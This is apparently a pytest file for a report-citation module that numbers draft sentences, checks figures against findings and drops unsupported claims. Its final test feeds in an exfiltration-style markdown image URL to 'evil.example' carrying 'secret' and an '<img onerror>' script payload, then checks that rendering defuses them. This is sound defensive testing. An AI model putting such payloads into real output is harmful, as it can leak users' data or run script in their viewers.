"""A text held against findings: what is borne out is cited, what is not is left out, and nothing in it acts."""

from __future__ import annotations

import pytest

from swarm.reports.cited import Known, blocks_of, cited_text, figures_without, inert, numbered, part_of, wrong_with

LONG = Known(
    label="F1", claim="The bridge is 1,040 m long.", quotes=(("a length of 1040 m, since 1902", "survey.txt:3"),)
)


def test_a_draft_is_taken_apart_into_headings_items_and_sentences_that_are_numbered_through() -> None:
    blocks = blocks_of(
        "# Title\nOne is short. Two is\nlonger, e.g. this. [1]\n## Head\n- Three. Four [^2].\n- Five\n\n"
    )
    assert [(one.mark, one.text, one.sentences, one.first) for one in blocks] == [
        ("##", "", (), 0),
        ("", "", ("One is short.", "Two is longer, e.g. this."), 1),
        ("##", "Head", (), 0),
        ("-", "", ("Three.", "Four."), 3),
        ("-", "", ("Five",), 5),
    ]
    assert list(numbered(blocks)) == [1, 2, 3, 4, 5]


def test_every_sentence_is_in_one_part() -> None:
    blocks = blocks_of("\n\n".join(f"Sentence number {n} is here." for n in range(1, 31)))
    parts = [part_of(blocks, number) for number in range(4)]
    assert [part.count("\n") + 1 for part in parts[:3]] == [12, 12, 6]
    assert parts[3] == ""
    assert parts[1].startswith("13. Sentence number 13 is here.\n")


@pytest.mark.parametrize(
    ("sentence", "missing"),
    [
        ("It is 1040 m long.", []),
        ("It is 1,040 m long, since 1902.", []),
        ("It is 1041 m long.", ["1041"]),
        ("Of the 3 bridges it is the longest.", []),
        ("It is 104 m long.", ["104"]),
        ("It stands there.", []),
    ],
)
def test_a_figure_stands_in_what_a_sentence_rests_on_or_in_the_question(sentence: str, missing: list[str]) -> None:
    assert figures_without(sentence, "Which of the 3 bridges?", [LONG]) == missing


def test_a_label_that_no_finding_has_is_told() -> None:
    assert wrong_with({"cited": [{"sentence": 1, "findings": ["F1"]}]}, frozenset(["F1"])) is None
    said = wrong_with({"cited": [{"sentence": 1, "findings": ["F9"]}]}, frozenset(["F1"]))
    assert said is not None
    assert said.startswith("there is no finding 'F9'")


def test_sentences_that_nobody_spoke_of_are_left_out() -> None:
    blocks = blocks_of("## In 1899\n\nIt is 1,040 m long. It is red.\n")
    assert cited_text("How long?", blocks, {1: ["F1"]}, [LONG]) == (
        "# How long?\n\nIt is 1,040 m long.[^1]\n\n"
        "*1 sentence of the draft left out: no finding bears them out.*\n\n"
        '[^1]: survey.txt:3 "a length of 1040 m, since 1902"\n'
    ), "and a heading with a figure that stands nowhere goes too"


def test_nothing_in_a_report_is_fetched_or_run_by_whatever_shows_it() -> None:
    evil = "Look ![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)> [here](https://evil.example)"
    known = Known(label="F1", claim=evil, quotes=((evil, "a.txt:1"),))
    text = cited_text("What?", blocks_of(f"{evil}."), {1: ["F1"]}, [known])
    assert "![" not in text
    assert "](" not in text
    assert "<" not in text
    assert "evil.example" in text, "it is quoted all the same"
    assert inert("a\n[^1]: b") == "a \\[^1]: b"
    assert inert("## 4 m") == "\\## 4 m"
